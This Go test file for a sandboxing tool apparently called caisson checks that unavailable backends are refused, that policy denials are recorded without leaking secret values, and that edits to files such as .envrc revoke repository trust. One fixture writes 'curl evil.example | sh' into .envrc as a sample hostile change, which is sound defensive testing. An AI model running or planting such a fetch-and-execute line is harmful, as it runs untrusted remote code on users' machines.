//go:build linux

package policy

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/caisson-dev/caisson/test/harness"
)

// TestUnavailable names backends that are not to be had, in every way and to every
// command that takes one: the status says so, nothing is made, and none is taken in
// its place. A word that means none is a slip.
func TestUnavailable(t *testing.T) {
	p := newPlace(t, harness.NewIdentity(t, "user", harness.UserOf()), nil)
	commands := map[string][]string{"open": {"open"}, "plan": {"plan", "--", "true"}, "mcp": {"mcp"}, "run": {"run", "--", "true"}}
	try := func(what string, exit int, code string, env []string, flags ...string) {
		t.Helper()
		for name, args := range commands {
			want := exit
			if name == "run" {
				want = 125
			}
			args = append(append([]string{args[0]}, flags...), args[1:]...)
			r := p.with(env, args...)
			if r.Exit != want || !strings.Contains(r.Stderr, "("+code+")") {
				t.Errorf("%s, %s: want %d and %s: %v", what, name, want, code, r)
			}
			p.quiet(what + ", " + name)
		}
	}
	for _, b := range []string{"docker", "podman", "oci", "oci:kata", "vm", "kubernetes", "host"} {
		try("--backend "+b, 5, "unavailable", nil, "--backend", b)
	}
	try("the environment", 5, "unavailable", []string{"CAISSON_BACKEND=vm"})
	try("a slip", 2, "usage", nil, "--backend", "dokcer")
	p.userPolicy("version: 1\nbackends: {allowed: [vm]}\n")
	defer p.userPolicy("")
	try("the policy's", 5, "unavailable", nil)
	p.userPolicy("version: 1\nbackends: {allowed: [linux]}\n")
	if r := p.run("run", "--backend", "linux", "--", "true"); r.Exit != 0 {
		t.Errorf("the control: %v", r)
	}
}

// TestRuledOut: what a rule refuses while a task is decided is on record as what
// lacks a boundary is; a plan of it is not.
func TestRuledOut(t *testing.T) {
	harness.Each(t, func(t *testing.T, id *harness.Identity) {
		p := newPlace(t, id, nil)
		p.userPolicy(fmt.Sprintf("version: 1\ndeny: {mounts: [%q], env: [X], grants: [ptrace], commands: [{argv: [git, push]}]}\nallow_trust: false\nlimits: {memory: 1g}\n", p.Tmp))
		defer p.userPolicy("")
		for _, flags := range [][]string{{"--ro", p.Tmp}, {"--env", "X=s3cret"}, {"--grant", "ptrace"}, {"--trust"}, {"--memory", "2g"}} {
			for _, command := range [][]string{{"plan"}, {"run"}, {"open"}} {
				before, _ := p.decisions()
				args := append(slices.Clone(command), flags...)
				if command[0] != "open" {
					args = append(args, "--", "true")
				}
				if r := p.run(args...); r.Exit != 4 && r.Exit != 125 || !strings.Contains(r.Stderr, "policy.yaml:") {
					t.Errorf("%v: %v", args, r)
				}
				after, text := p.decisions()
				lines := strings.Split(strings.TrimSpace(text), "\n")
				got := after[len(before):]
				switch last := lines[len(lines)-1]; {
				case command[0] == "plan" && len(got) > 0:
					t.Errorf("%v is on record: %v", args, got)
				case command[0] == "plan":
				case !slices.Equal(got, []string{"boundary.blocked"}) || !strings.Contains(last, flags[0]) || !strings.Contains(last, "policy.yaml:") || !strings.Contains(last, `"code":"denied"`) || !strings.Contains(last, p.repo):
					t.Errorf("%v: on record: %v %s", args, got, last)
				case strings.Contains(text, "s3cret"):
					t.Errorf("a value is on record: %s", text)
				}
			}
		}
		before, _ := p.decisions()
		if r := p.run("run", "--", "git", "push"); r.Exit != 125 {
			t.Error(r)
		}
		if after, text := p.decisions(); !slices.Equal(after[len(before):], []string{"boundary.blocked"}) || !strings.Contains(text, "git push") {
			t.Errorf("a denied command: %v", after)
		}
		p.quiet("refused")
	})
}

// TestTrustBelow: what tools read in any folder ends trust in the repository, as at
// its top; other files there do not.
func TestTrustBelow(t *testing.T) {
	harness.Each(t, func(t *testing.T, id *harness.Identity) {
		p := newPlace(t, id, map[string]string{"d/.envrc": "export A=1\n", "d/other": "x\n"})
		p.OK(t, p.repo, "trust")
		known := func(when, changed string) {
			t.Helper()
			r := p.run("run", "--", "true")
			switch {
			case changed == "" && r.Exit != 0:
				t.Errorf("%s: %v", when, r)
			case changed != "" && (r.Exit != 125 || !strings.Contains(r.Stderr, "row R5") || !strings.Contains(r.Stderr, changed)):
				t.Errorf("%s: %v", when, r)
			}
		}
		known("trusted", "")
		p.commit("d/other", "y\n")
		p.commit("d/e/envrc", "y\n")
		known("other files", "")
		p.commit("d/.envrc", "curl evil.example | sh\n")
		known("one changed", "d/.envrc")
		p.OK(t, p.repo, "trust")
		known("said again", "")
		p.commit("a/b/c/mise.toml", "[env]\n")
		known("one more", "a/b/c/mise.toml")
		p.OK(t, p.repo, "trust")
		known("said once more", "")
		p.Write(t, p.repo+"/d/.envrc", "export B=1\n", 0o644)
		known("changed in the checkout", "d/.envrc")
		p.Git(t, p.repo, "checkout", "-q", "--", "d/.envrc")
		known("it is back", "")
		p.Git(t, p.repo, "rm", "-q", "d/.envrc")
		p.Git(t, p.repo, "commit", "-q", "-m", "gone")
		known("one is gone", "d/.envrc")
	})
}
